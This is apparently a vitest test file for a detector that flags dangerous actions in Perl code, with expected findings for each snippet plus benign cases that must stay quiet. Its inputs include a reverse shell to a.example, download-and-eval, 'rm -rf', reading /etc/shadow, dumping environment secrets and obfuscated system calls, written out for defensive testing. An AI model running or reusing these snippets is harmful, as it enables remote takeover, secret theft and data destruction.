import { describe, expect, test } from 'vitest';
import { findings, read } from './read.ts';

const lines = (...each: readonly string[]) => each.join('\n');
const encoded = (text: string) => Buffer.from(text).toString('base64');

describe('Perl', () => {
  test.each<[string, readonly string[]]>([
    ['unlink "/srv/a", "/srv/b";', ['file.delete /srv/a', 'file.delete /srv/b']],
    ['unlink glob("/srv/*.o")', ['file.delete /srv/*.o']],
    ['unlink </srv/*.o>;', ['file.delete /srv/*.o']],
    ['unlink for ("/srv/a", "/srv/b")', ['file.delete /srv/a', 'file.delete /srv/b']],
    ['foreach my $f (qw(/srv/a /srv/b)) { unlink $f if -e $f; }', ['file.delete /srv/a', 'file.delete /srv/b']],
    ['use File::Path qw(remove_tree); remove_tree("/srv/x")', ['file.delete /srv/x recursive,force']],
    ["use File::Path; File::Path::rmtree('/srv/x')", ['file.delete /srv/x recursive,force']],
    ['my ($a, $b) = ("/srv/q", 2); unlink($a);', ['file.delete /srv/q']],
    ['open(my $fh, ">", "/etc/hosts") or die; print $fh "x";', ['file.write /etc/hosts']],
    ['open(F, ">>$ENV{HOME}/.profile")', ['file.append /home/ann/.profile']],
    ['open(F, "</etc/shadow"); print <F>', ['file.read /etc/shadow']],
    ['open(F, "id |")', ['shell id']],
    ['system("rm", "-rf", "/srv")', ['argv rm -rf /srv']],
    ['system "rm -rf /srv" if 1', ['shell rm -rf /srv']],
    ['print `id`; exec qq{ls}; my $x = qx/who/;', ['shell id', 'shell ls', 'shell who']],
    ['$x = "rm"; my $y = "-rf"; system("$x $y /srv");', ['shell rm -rf /srv']],
    ['&{"sys" . "tem"}("id")', ['shell id']],
    ['my $f = "system"; &$f("id")', ['shell id']],
    ['s/(\\w+)/`id`/e', ['shell id']],
    ['eval "unlink q(/srv/x)"', ['code.eval literal', 'code unlink q(/srv/x)']],
    [`use MIME::Base64; eval decode_base64("${encoded('go()')}")`, ['code.eval decoded', 'code go() (decoded)']],
    ['eval pack("H*", "676f2829")', ['code.eval decoded', 'code go() (decoded)']],
    ['use LWP::Simple; eval get("https://a.example/x.pl")', ['net.request a.example', 'code.eval downloaded']],
    [
      'use IO::Socket; $s = IO::Socket::INET->new(PeerAddr => "a.example:1"); open(STDIN, ">&", $s); exec("/bin/sh", "-i")',
      ['net.request a.example raw-socket,reverse-shell', 'exec /bin/sh interactive', 'argv /bin/sh -i'],
    ],
    [
      '$c = new IO::Socket::INET(PeerAddr, "a.example:1"); STDIN->fdopen($c, r); system $_ while <>',
      ['net.request a.example raw-socket,reverse-shell', 'exec … dynamic'],
    ],
    ['print %ENV', ['secret.dump environment']],
    ['print $ENV{API_TOKEN}', ['secret.read API_TOKEN environment']],
    [lines('print <<"END";', 'unlink "/srv/x"', 'END', 'unlink "/srv/y";'), ['file.delete /srv/y']],
  ])('%s', (code, expected) => {
    expect(findings(read('perl', code))).toEqual(expected);
  });

  test.each([
    'print "unlink q(x)"; # unlink "y"',
    's/unlink/system/g; y/a-z/A-Z/; print if /system "id"/ && m{exec}',
    lines('=pod', 'unlink "x"', '=cut', 'print 1'),
    'while (<>) { chomp; my @f = split /,/; print join("|", @f[0..2]), "\\n" if $. > 1 }',
    'my %h = (a => 1, unlink => 2); for my $k (sort keys %h) { printf "%s=%s\\n", $k, $h{unlink}; }',
    'my $n = 10 % 3; my $m = $n / 2; print $m, " ", @{[1, 2]}, "\\n";',
  ])('honest code stays quiet: %s', (code) => {
    expect(findings(read('perl', code))).toEqual([]);
  });
});
